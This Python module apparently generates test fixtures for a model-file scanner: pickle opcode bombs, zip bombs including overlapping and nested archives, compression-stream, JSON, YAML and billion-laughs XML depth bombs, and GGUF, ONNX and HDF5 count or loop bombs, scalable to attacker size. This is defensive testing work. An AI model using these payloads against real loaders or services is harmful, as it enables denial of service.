"""Files that would cost a loader or a scanner time or memory out of all proportion; each is written by ``write``.

None does anything else. ``size`` scales a file up from what tests use to what an attacker would send (1.0).
"""

from __future__ import annotations

import bz2
import gzip
import io
import json
import lzma
import struct
import tarfile
import zipfile
import zlib
from collections.abc import Callable, Iterator
from pathlib import Path

P4 = b"\x80\x04"
Made = bytes | Callable[[Path], None]


def text(value: str) -> bytes:
    raw = value.encode()
    return b"\x8c" + bytes([len(raw)]) + raw if len(raw) < 256 else b"X" + struct.pack("<I", len(raw)) + raw


def name(module: str, attribute: str) -> bytes:
    return text(module) + text(attribute) + b"\x93"


def zipped(members: dict[str, bytes], method: int = zipfile.ZIP_DEFLATED) -> bytes:
    into = io.BytesIO()
    with zipfile.ZipFile(into, "w", method) as archive:
        for member, data in members.items():
            archive.writestr(member, data)
    return into.getvalue()


def pickles(size: float) -> Iterator[tuple[str, Made]]:
    many = int(1_400_000 * size)
    some = int(200_000 * size)
    yield "memo-index", P4 + b"N" + b"r\xff\xff\xff\x7f" * many + b"."
    yield "memo-text-index", b"N" + b"p2147483647\n" * some + b"."
    yield "tuple-doubling", P4 + b"}N" + b"2\x86" * some + b"Ns."
    yield "hash-doubling-often", P4 + b"}" + b"N" + b"2\x86" * 60 + b"\x94" + b"h\x00Ns" * (many // 3) + b"."
    wide = b"(" + b"N" * 500 + b"t\x940(" + b"h\x00" * 500 + b"t\x940"
    yield "hash-wide-often", P4 + wide + b"}" + b"h\x01Ns" * (many // 3) + b"."
    yield "announced-bytes", P4 + b"\x8e" + struct.pack("<Q", 1 << 40) + b"x" * 100
    yield "announced-bytearray", P4 + b"\x96" + struct.pack("<Q", 1 << 62) + b"x"
    yield "announced-text", P4 + b"\x8d" + struct.pack("<Q", 1 << 50) + b"x"
    yield "announced-frame", P4 + b"\x95" + struct.pack("<Q", 1 << 60) + b"N."
    yield "opcodes", P4 + b"N0" * int(20_000_000 * size) + b"."
    yield "memos", P4 + b"]\x94" * (many // 2) + b"."
    yield "marks", P4 + b"(" * many + b"."
    yield "long-integers", P4 + (b"\x8a\xff" + b"\x7f" * 255) * int(1_000_000 * size) + b"."
    yield "wide-text", P4 + text("\U0001f600" + "a" * int(80_000_000 * size)) + b"."
    yield "many-texts", P4 + text("\U0001f600" + "a" * 4000) * int(60_000 * size) + b"."
    yield "many-bytes", P4 + (b"B" + struct.pack("<I", 4000) + b"b" * 4000) * int(60_000 * size) + b"."
    yield "text-lines", (b"V" + b"a" * 900_000 + b"\\U0001f600\n") * int(100 * size) + b"."
    yield "escaped-lines", (b"S'" + b"\\x41" * 200_000 + b"'\n") * int(100 * size) + b"."
    yield "number-lines", (b"L" + b"9" * 1900 + b"L\n") * int(50_000 * size) + b"."
    yield (
        "globals-of-a-long-module",
        (P4 + text("m" * 500_000) + b"\x94" + b"".join(b"h\x00" + text(f"n{i}") + b"\x93" for i in range(some)) + b"."),
    )
    yield "unknown-names", P4 + b"".join(name("unknown", f"n{i}") + b"0" for i in range(some)) + b"."
    yield "calls-of-calls", P4 + name("numpy", "dtype") + b")R" * some + b"."
    yield (
        "computed-calls",
        P4 + b"".join(name("numpy", "dtype") + b")R" + text(f"{i}") + b"\x85R0" for i in range(some // 2)) + b".",
    )
    yield (
        "wide-arguments",
        P4
        + name("numpy", "dtype")
        + b"\x94("
        + b"N" * int(200_000 * size)
        + b"t\x94"
        + b"h\x00h\x01N\x920" * some
        + b".",
    )
    yield "nested-blobs", P4 + (b"B" + struct.pack("<I", 16_000) + P4 + b"N0" * 7998 + b"N.") * int(6000 * size) + b"."
    yield (
        "blobs-that-nearly-are",
        P4 + (b"B" + struct.pack("<I", 16_000) + P4 + b"N0" * 7998 + b"..") * int(6000 * size) + b".",
    )
    blob = b"B" + struct.pack("<I", 1 << 20) + P4 + b"N0" * ((1 << 19) - 2) + b"N."
    yield (
        "one-blob-loaded-often",
        P4 + blob + b"\x94" + name("torch.storage", "_load_from_bytes") + b"\x94" + b"h\x01h\x00\x85R0" * some + b".",
    )
    inner = P4 + b"N."
    for _ in range(int(2000 * size)):
        inner = P4 + b"B" + struct.pack("<I", len(inner)) + inner + b"."
    yield "pickles-in-pickles", inner
    yield "stacked", b"N." * int(5_000_000 * size)
    yield "stacked-calls", (P4 + name("a", "b") + b")R.") * int(500_000 * size)
    yield "dtype-of-dtypes", dtype_of_dtypes(max(2, int(1000 * size)))
    yield "arrays-in-arrays", arrays_in_arrays(int(5000 * size))
    yield "arrays-of-objects", P4 + wrapper("O8") * int(100_000 * size) + b"."
    yield "array-longer-than-the-file", P4 + wrapper("f8", 1 << 60) + b"."
    yield "builds", P4 + name("a", "b") + b")\x81" + b"}b" * some + b"."
    yield "appends-to-a-call", P4 + name("a", "b") + b")R" + b"(NNNNe" * some + b"."
    yield "extensions", P4 + b"\x82\x01" * (many // 2) + b"."
    yield "deep-lists", P4 + b"]" * (many // 2) + b"a" * (many // 2 - 1) + b"."
    yield "protocol-0-noise", b"(" + b"I1\nI2\n" * int(5_000_000 * size)


def wrapper(dtype: str, count: int = 1) -> bytes:
    """Return joblib's mark of a raw array, as opcodes."""
    shape = text("shape") + b"\x8a\x08" + struct.pack("<q", count) + b"\x85"
    kind = text("dtype") + name("numpy", "dtype") + text(dtype) + b"\x89\x88\x87R"
    return name("joblib.numpy_pickle", "NumpyArrayWrapper") + b")\x81}(" + shape + kind + b"ub"


def arrays_in_arrays(depth: int) -> bytes:
    return P4 + (wrapper("O8") + P4) * depth + b"N." * depth + b"."


def dtype_of_dtypes(fields: int, depth: int = 5) -> bytes:
    """Return an array whose dtype has fields of a dtype that has fields, each level sharing one object."""
    made = P4 + name("numpy", "dtype") + text("V8") + b"\x89\x88\x87R\x940"
    slot = 0
    first = P4 + name("numpy", "dtype") + text("V8") + b"\x89\x88\x87R" + b"q\x00" + b"0"
    made = first
    for level in range(depth):
        made += name("numpy", "dtype") + text("V8") + b"\x89\x88\x87R" + b"(K\x03" + text("|") + b"N" + b")" + b"}("
        for i in range(fields):
            made += text(f"f{i}") + b"h" + bytes([slot]) + b"K\x00\x86"
        made += b"uK\x08K\x01K\x10tb" + b"q" + bytes([level + 1]) + b"0"
        slot = level + 1
    made += name("joblib.numpy_pickle", "NumpyArrayWrapper") + b")\x81}(" + text("shape") + b"K\x01\x85" + text("dtype")
    return made + b"h" + bytes([slot]) + b"ub" + b"x" * 8 + b"."


def archives(size: float) -> Iterator[tuple[str, Made]]:
    zeros = bytes(1 << 20)
    large = int(200 * size) or 1
    yield "zip-data-pkl", zipped({"a/data.pkl": P4 + b"N0" * (large << 19) + b".", "a/version": b"3\n"})
    yield "zip-inflating", zipped({f"{i}.bin": zeros * large for i in range(5)})
    yield "zip-overlap", overlapping(int(20_000 * size) or 2, zeros * 20)
    yield "zip-members", lambda path: members(path, int(1_000_000 * size))
    yield "zip-empty-members", zipped({f"{i}": b"" for i in range(int(19_000 * size))})
    yield "zip-comment", zipped({"a": b"b"}) + b"PK\x05\x06" * int(10_000 * size)
    inner = zeros * large
    for _ in range(12):
        inner = zipped({"a.zip": inner})
    yield "zip-in-zip", inner
    yield "gzip", gzip.compress(zeros * large * 5)
    yield "gzip-of-gzip", gzip.compress(gzip.compress(gzip.compress(zeros * large * 5)))
    yield "gzip-empty-streams", gzip.compress(b"") * int(1_000_000 * size)
    yield "zlib", zlib.compress(zeros * large * 5)
    yield "bz2", bz2.compress(zeros * large * 5)
    yield "xz", lzma.compress(zeros * large * 5)
    yield (
        "xz-wide-window",
        lzma.compress(b"x", filters=[{"id": lzma.FILTER_LZMA2, "preset": 6, "dict_size": 1 << 20}]).replace(
            b"\x14", b"\x28", 1
        ),
    )
    yield "lzma-wide-window", b"\x5d\x00\x00\xff\xff" + b"\xff" * 8 + lzma.compress(zeros, lzma.FORMAT_ALONE)[13:]
    yield "bz2-empty-streams", bz2.compress(b"") * int(1_000_000 * size)
    yield "zstd-frames", b"\x28\xb5\x2f\xfd\x20\x00\x01\x00\x00" * int(1_000_000 * size)
    yield "zstd-repeats", b"\x28\xb5\x2f\xfd\x00\x58" + b"\x02\x00\x10\x00" * int(500_000 * size) + b"\x01\x00\x00"
    yield (
        "lz4-zeros",
        b"\x04\x22\x4d\x18\x60\x70\x73" + (struct.pack("<I", 16_000) + lz4_zeros(16_000)) * int(4000 * size) + bytes(4),
    )
    yield "tar-members", lambda path: tar_members(path, int(300_000 * size))
    yield "tar-long-names", b"".join(_long_name() for _ in range(int(3000 * size))) + bytes(1024)
    yield "seven-zip-header", b"7z\xbc\xaf\x27\x1c\x00\x04" + _seven_header(int(4_000_000 * size))


def lz4_zeros(size: int) -> bytes:
    """Return an LZ4 block that says: one zero, then itself, for 255 times its size."""
    return b"\x1f\x00\x01\x00" + b"\xff" * (size - 10) + b"\x00\x50" + bytes(4)


def overlapping(count: int, data: bytes) -> bytes:
    """Return an archive in which many entries of the directory name the bytes of one member."""
    packed = zlib.compressobj(9, zlib.DEFLATED, -15)
    body = packed.compress(data) + packed.flush()
    crc = zlib.crc32(data)
    head = struct.pack("<4s5H3I2H", b"PK\x03\x04", 20, 0, 8, 0, 0, crc, len(body), len(data), 1, 0) + b"a"
    central = b"".join(
        struct.pack("<4s6H3I5H2I", b"PK\x01\x02", 20, 20, 0, 8, 0, 0, crc, len(body), len(data), 6, 0, 0, 0, 0, 0, 0)
        + f"{i:06}".encode()
        for i in range(count)
    )
    end = struct.pack(
        "<4s4H2IH", b"PK\x05\x06", 0, 0, count & 0xFFFF, count & 0xFFFF, len(central), len(head + body), 0
    )
    return head + body + central + end


def members(path: Path, count: int) -> None:
    with zipfile.ZipFile(path, "w") as archive:
        for i in range(count):
            archive.writestr(f"{i}", b"")


def tar_members(path: Path, count: int) -> None:
    block = tarfile.TarInfo("a").tobuf()
    with open(path, "wb") as stream:
        stream.write(block * count)
        stream.write(bytes(1024))


def _long_name() -> bytes:
    info = tarfile.TarInfo("././@LongLink")
    info.type, info.size = b"L", 60_000
    return info.tobuf() + b"n" * 60_000 + bytes(-60_000 % 512) + tarfile.TarInfo("a").tobuf()


def _seven_header(size: int) -> bytes:
    header = b"\x01\x04\x06\x00\xff" + b"\xff" * 8 + b"\x09" * size
    start = struct.pack("<QQI", 0, len(header), zlib.crc32(header))
    return struct.pack("<I", zlib.crc32(start)) + start + header


def documents(size: float) -> Iterator[tuple[str, Made]]:
    many = int(2_000_000 * size)
    header = b'{"a":' * many
    yield "safetensors-depth", struct.pack("<Q", len(header)) + header
    header = (
        b"{"
        + b",".join(b'"%d":{"dtype":"F32","shape":[1],"data_offsets":[0,4]}' % i for i in range(int(1_000_000 * size)))
        + b"}"
    )
    yield "safetensors-entries", struct.pack("<Q", len(header)) + header + bytes(4)
    yield "json-depth", b'{"a":' * many + b"1" + b"}" * many
    yield "json-lists", b"[" * many + b"]" * many
    yield (
        "json-entries",
        b'{"class_name":"x","config":[' + b'{"module":"a.b","class_name":"C"},' * (many // 4) + b"{}]}",
    )
    yield "json-names", json.dumps({f"k{i}": f"module{i}.name" for i in range(many // 4)}).encode()
    yield "json-number", b'{"a": ' + b"9" * int(10_000_000 * size) + b"}"
    yield "yaml-depth", b"a:\n" + b"- " * int(3_000_000 * size) + b"x\n"
    yield "yaml-entries", b"".join(b"k%d: pkg.mod.Class\n" % i for i in range(many // 2))
    yield (
        "yaml-aliases",
        b"a: &a [x]\n" + b"".join(b"b%d: &b%d [%s]\n" % (i, i, b",".join([b"*a"] * 9)) for i in range(many // 40)),
    )
    yield "yaml-flow-depth", b"a: " + b"[" * many
    yield "yaml-long-line", b"a: !!x " + b"b: " * many
    yield "xml-entities", xml_entities()
    yield "xml-depth", b'<?xml version="1.0"?><PMML>' + b"<a>" * many
    yield "xml-attributes", b'<?xml version="1.0"?><PMML ' + b" ".join(b'a%d="1"' % i for i in range(many // 4)) + b"/>"
    yield (
        "keras-depth",
        zipped(
            {"config.json": b'{"config":' * many + b"1" + b"}" * many, "metadata.json": b"{}", "model.weights.h5": b""}
        ),
    )
    yield (
        "skops-depth",
        zipped({"schema.json": b'{"__module__":"a","content":' * (many // 4) + b"1" + b"}" * (many // 4)}),
    )
    yield "python-parentheses", b"import os\nx = " + b"(" * many + b")" * many + b"\n"
    yield "python-lines", b"import os\n" + b"x = [1, 2, 3]\n" * many
    yield "python-sums", b"import os\nx = 1" + b"+1" * many + b"\n"
    yield "python-in-archive", zipped({"handler.py": b"x = [1, 2, 3]\n" * many, "MAR-INF/MANIFEST.json": b"{}"})
    yield "lightgbm-lines", b"tree\nversion=v4\n" + b"a=1\n" * (many * 4)
    yield "lightgbm-long-line", b"tree\nversion=v4\n" + b"feature_names=" + b"a " * (many * 4)
    npy = b"{'descr': " + b"(" * 60_000 + b"), 'fortran_order': False, 'shape': (1,)}"
    yield "npy-depth", b"\x93NUMPY\x02\x00" + struct.pack("<I", len(npy)) + npy
    yield "npy-header", b"\x93NUMPY\x02\x00" + struct.pack("<I", 1 << 31) + b" " * int(20_000_000 * size)
    yield "npy-shape", npy_head("{'descr': '<f8', 'fortran_order': False, 'shape': (" + "9" * 4000 + ",)}")
    yield "npy-arrays", npy_head("{'descr': '<f8', 'fortran_order': False, 'shape': (0,)}") * int(200_000 * size)


def npy_head(header: str) -> bytes:
    return b"\x93NUMPY\x01\x00" + struct.pack("<H", len(header)) + header.encode()


def xml_entities() -> bytes:
    rows = "".join(f'<!ENTITY a{i} "{f"&a{i - 1};" * 10}">' for i in range(1, 12))
    return f'<?xml version="1.0"?><!DOCTYPE PMML [<!ENTITY a0 "x">{rows}]><PMML>&a11;</PMML>'.encode()


def binaries(size: float) -> Iterator[tuple[str, Made]]:
    many = int(2_000_000 * size)
    yield "onnx-groups", b"\x08\x08\x12\x01a" + nested_fields(b"\x3a", min(many, 40_000))
    yield "onnx-graphs", b"\x08\x08\x12\x01a" + nested_graphs(int(3000 * size))
    yield "onnx-fields", b"\x08\x08\x12\x01a" + b"\x3a" + varint(2 * many) + b"\x5a\x00" * many
    yield (
        "onnx-nodes",
        b"\x08\x08\x12\x01a" + field(7, field(1, field(4, b"Add") + field(7, b"custom%d" % 1)) * (many // 8)),
    )
    yield (
        "savedmodel-nodes",
        b"\x08\x01" + field(2, field(2, field(1, field(1, b"a") + field(2, b"Add")) * (many // 8))),
    )
    yield "savedmodel-depth", b"\x08\x01" + nested_fields(b"\x12", min(many, 40_000))
    yield "gguf-counts", b"GGUF" + struct.pack("<IQQ", 3, 1 << 62, 1 << 62)
    yield (
        "gguf-arrays",
        b"GGUF"
        + struct.pack("<IQQ", 3, 0, 1)
        + struct.pack("<Q", 1)
        + b"a"
        + struct.pack("<II", 9, 9)
        + struct.pack("<Q", 1 << 60)
        + struct.pack("<IQ", 9, 1) * many,
    )
    yield (
        "gguf-texts",
        b"GGUF"
        + struct.pack("<IQQ", 3, 0, 1)
        + struct.pack("<Q", 1)
        + b"a"
        + struct.pack("<IIQ", 9, 8, many)
        + bytes(8) * many,
    )
    yield "ubj-depth", b"{" + b"L" + struct.pack(">q", 7) + b"learner" + b"[" * many
    yield "ubj-counts", b"{" + b"L" + struct.pack(">q", 7) + b"learner" + b"[$l#L" + struct.pack(">q", 1 << 62)
    yield "ubj-empty-items", b"{" + b"L" + struct.pack(">q", 7) + b"learner" + b"[$N#L" + struct.pack(">q", 1 << 62)
    yield "catboost-loop", b"CBM1" + struct.pack("<I", 64) + struct.pack("<I", 8) + bytes([4, 0] * 30)
    yield "hdf5-loop", hdf5_loop()
    yield "rar-headers", b"Rar!\x1a\x07\x01\x00" + b"\x00\x00\x00\x00\x03\x03\x00\x00" * many
    yield "noise", bytes(range(256)) * int(400_000 * size)
    yield "zeros", bytes(int(100_000_000 * size))
    yield "end-records", b"PK\x05\x06" * int(20_000 * size)


def varint(value: int) -> bytes:
    out = b""
    while value > 127:
        out += bytes([value & 127 | 128])
        value >>= 7
    return out + bytes([value])


def field(number: int, data: bytes) -> bytes:
    return varint(number << 3 | 2) + varint(len(data)) + data


def nested_fields(tag: bytes, depth: int) -> bytes:
    """Return length-delimited fields, each the only content of the one around it."""
    parts, size = [], 0
    for _ in range(depth):
        head = tag + varint(size)
        parts.append(head)
        size += len(head)
    return b"".join(reversed(parts))


def nested_graphs(depth: int) -> bytes:
    """Return ONNX graphs within attributes of nodes of graphs."""
    data = b""
    for _ in range(depth):
        data = field(1, field(4, b"If") + field(5, field(1, b"g") + field(6, data)))
    return field(7, data)


def hdf5_loop() -> bytes:
    """Return a superblock whose root group's object header continues in itself."""
    size = 96 + 16 + 24
    block = b"\x89HDF\r\n\x1a\n" + bytes([0, 0, 0, 0, 0, 8, 8, 0]) + struct.pack("<HHI", 4, 16, 0)
    block += struct.pack("<QQQQ", 0, 2**64 - 1, size, 2**64 - 1) + struct.pack("<QQII", 0, 96, 0, 0) + bytes(16)
    header = struct.pack("<BBHII", 1, 0, 60_000, 1, 24) + bytes(4)
    return block + header + struct.pack("<HHBBBB", 0x10, 16, 0, 0, 0, 0) + struct.pack("<QQ", 96 + 16, 24)


FAMILIES = {"pickle": pickles, "archive": archives, "document": documents, "binary": binaries}


def bombs(size: float = 1.0) -> Iterator[tuple[str, Made]]:
    """Yield the name of every bomb and its bytes, or what writes it."""
    for family, make in FAMILIES.items():
        for title, made in make(size):
            yield f"{family}/{title}", made


def write(made: Made, path: Path) -> None:
    """Write a bomb to ``path``."""
    if isinstance(made, bytes):
        path.write_bytes(made)
    else:
        made(path)
